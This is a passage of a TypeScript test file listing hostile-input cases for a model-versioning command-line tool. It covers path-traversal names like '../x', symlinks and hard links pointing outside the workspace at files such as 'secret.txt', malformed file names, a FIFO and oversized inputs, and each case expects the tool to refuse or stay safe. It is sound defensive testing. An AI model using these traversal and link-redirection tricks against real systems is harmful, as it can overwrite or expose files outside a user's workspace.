  nameCase('tag-dotdot', "tag '../x'", ['tag', 'm@v1', '../x'], 2, 'INVALID_TAG_NAME'),
  nameCase('tag-version-like', "tag 'v2'", ['tag', 'm@v1', 'v2'], 2, 'INVALID_TAG_NAME'),
  nameCase('tag-latest', "tag 'latest'", ['tag', 'm@v1', 'latest'], 2, 'INVALID_TAG_NAME'),
  nameCase('tag-stage', "tag 'production'", ['tag', 'm@v1', 'production'], 2, 'INVALID_TAG_NAME'),
  nameCase('tag-non-utf8', 'a tag name that is not valid UTF-8', ['tag', 'm@v1', "$'\\xff'"], 2, 'INVALID_TAG_NAME', true),
  nameCase('stage-dotdot', "promote --to '../x'", ['promote', 'm@v1', '--to', '../x', '--yes'], 2),
  nameCase('remote-dotdot', "remote add '../x'", ['remote', 'add', '../x', '/tmp/nowhere'], 2),
  nameCase('remote-unknown', "push --remote ghost", ['push', '--remote', 'ghost'], 3),
];

// ------------------------------------------------------------------ the checkout path

const checkouts: HostileCase[] = [
  {
    id: 'checkout-path/symlinked-folder',
    surface: 'checkout-path',
    attack: "the 'model' folder in the workspace is a symlink to a folder outside",
    expect: { exit: 6, code: 'UNSAFE_PATH' },
    arrange(s) {
      rmSync(join(s.src, 'model'), { recursive: true });
      symlinkSync(s.outside, join(s.src, 'model'));
      return { cwd: s.src, args: ['checkout', 'm@v1', '--force'] };
    },
  },
  {
    id: 'checkout-path/symlinked-folder-in-out',
    surface: 'checkout-path',
    attack: "--out folder whose 'model' subfolder is a symlink to a folder outside",
    expect: { exit: 6, code: 'UNSAFE_PATH' },
    arrange(s) {
      mkdirSync(join(s.src, 'out'));
      symlinkSync(s.outside, join(s.src, 'out', 'model'));
      return { cwd: s.src, args: ['checkout', 'm@v1', '--out', 'out', '--force'] };
    },
  },
  {
    id: 'checkout-path/pull-into-symlinked-folder',
    surface: 'checkout-path',
    attack: "pull into a workspace whose 'model' folder is a symlink to a folder outside",
    expect: { exit: 6, code: 'UNSAFE_PATH' },
    arrange(s) {
      symlinkSync(s.outside, join(s.repo, 'model'));
      return { cwd: s.repo, args: ['pull', 'm@v1', '--force'] };
    },
  },
  {
    id: 'checkout-path/symlinked-file',
    surface: 'checkout-path',
    attack: "a file on the checkout path is a symlink to a file outside (without --force)",
    expect: { exit: 4, code: 'WOULD_OVERWRITE' },
    arrange(s) {
      rmSync(join(s.src, 'model', 'big.bin'));
      symlinkSync(join(s.outside, 'secret.txt'), join(s.src, 'model', 'big.bin'));
      return { cwd: s.src, args: ['checkout', 'm@v1'] };
    },
  },
  {
    // Decision: checkout never replaces a symlink, even with --force (it asks to move it away).
    id: 'checkout-path/symlinked-file-force',
    surface: 'checkout-path',
    attack: 'the same with --force: refused too, the file outside untouched',
    expect: { exit: 4, code: 'WOULD_OVERWRITE' },
    arrange(s) {
      rmSync(join(s.src, 'model', 'big.bin'));
      symlinkSync(join(s.outside, 'secret.txt'), join(s.src, 'model', 'big.bin'));
      return { cwd: s.src, args: ['checkout', 'm@v1', '--force'] };
    },
  },
  {
    id: 'checkout-path/hardlinked-file',
    surface: 'checkout-path',
    attack: 'a file on the checkout path is a hard link to a file outside (without --force)',
    expect: { exit: 4, code: 'WOULD_OVERWRITE' },
    arrange(s) {
      rmSync(join(s.src, 'model', 'big.bin'));
      linkSync(join(s.outside, 'hl.bin'), join(s.src, 'model', 'big.bin'));
      return { cwd: s.src, args: ['checkout', 'm@v1'] };
    },
  },
  {
    id: 'checkout-path/hardlinked-file-force',
    surface: 'checkout-path',
    attack: 'the same with --force: the link is replaced, the shared inode is not written',
    expect: { exit: 0 },
    allowed: ['src/model'],
    arrange(s) {
      rmSync(join(s.src, 'model', 'big.bin'));
      linkSync(join(s.outside, 'hl.bin'), join(s.src, 'model', 'big.bin'));
      return { cwd: s.src, args: ['checkout', 'm@v1', '--force'] };
    },
  },
];

// ------------------------------------------------------------------ workspace files meeting commit

const workspace: HostileCase[] = [
  {
    id: 'workspace/newline-name',
    surface: 'workspace',
    attack: 'a model file whose name holds a newline (the manifest would be unreadable)',
    expect: { exit: 2, code: 'UNSAFE_PATH' },
    arrange(s) {
      writeFileSync(join(s.src, 'model', 'a\nb.bin'), 'x');
      return { cwd: s.src, args: ['commit', 'm', 'model'] };
    },
  },
  {
    id: 'workspace/backslash-name',
    surface: 'workspace',
    attack: 'a model file whose name holds a backslash (a plain character on POSIX)',
    expect: { exit: 2, code: 'UNREPRESENTABLE_PATH' },
    arrange(s) {
      writeFileSync(join(s.src, 'model', 'a\\b.bin'), 'x');
      return { cwd: s.src, args: ['commit', 'm', 'model'] };
    },
  },
  {
    id: 'workspace/non-utf8-name',
    surface: 'workspace',
    attack: 'a model file whose name is not valid UTF-8',
    expect: { exit: 2, code: 'UNREPRESENTABLE_PATH' },
    arrange(s) {
      writeFileSync(Buffer.from(`${join(s.src, 'model')}/\xff\xfe.bin`, 'latin1'), 'x');
      return { cwd: s.src, args: ['commit', 'm', 'model'] };
    },
  },
  {
    id: 'workspace/fifo',
    surface: 'workspace',
    attack: 'a FIFO given as a model file (reading it would block forever)',
    expect: { exit: 2, code: 'NOT_A_FILE' },
    arrange(s) {
      execFileSync('mkfifo', [join(s.src, 'model', 'pipe')]);
      return { cwd: s.src, args: ['commit', 'm', 'model/pipe'] };
    },
  },
  {
    id: 'workspace/metadata-path',
    surface: 'workspace',
    attack: 'committing the store itself (.modelctl/index.db)',
    expect: { exit: 2, code: 'PATH_IN_METADATA' },
    arrange: (s) => ({ cwd: s.src, args: ['commit', 'm', '.modelctl/index.db'] }),
  },
  {
    id: 'workspace/long-message',
    surface: 'workspace',
    attack: 'a 70,000-character message (over the manifest bound)',
    expect: { exit: 2, code: 'INVALID_VERSION' },
    arrange(s) {
      writeFileSync(join(s.src, 'model', 'small.txt'), 'changed\n');
      return { cwd: s.src, args: ['commit', 'm', 'model', '-m', 'x'.repeat(70_000)] };
    },
  },
  {
    id: 'workspace/params-deep',
    surface: 'workspace',
    attack: 'a params file nested 20,000 deep',
    expect: { exit: 2, code: 'INVALID_PARAMS_FILE' },
    arrange(s) {
      writeFileSync(join(s.src, 'params.json'), deep(20_000, '{"a":', '}').replace('{"a":}', '{"a":1}'));
      return { cwd: s.src, args: ['commit', 'm', 'model', '--params', 'params.json'] };
    },
  },
];

/** The whole corpus. */
export const HOSTILE_CASES: HostileCase[] = [...manifests, ...fileLists, ...remoteDocs, ...remoteJunk, ...bundles, ...configs, ...names, ...checkouts, ...workspace];
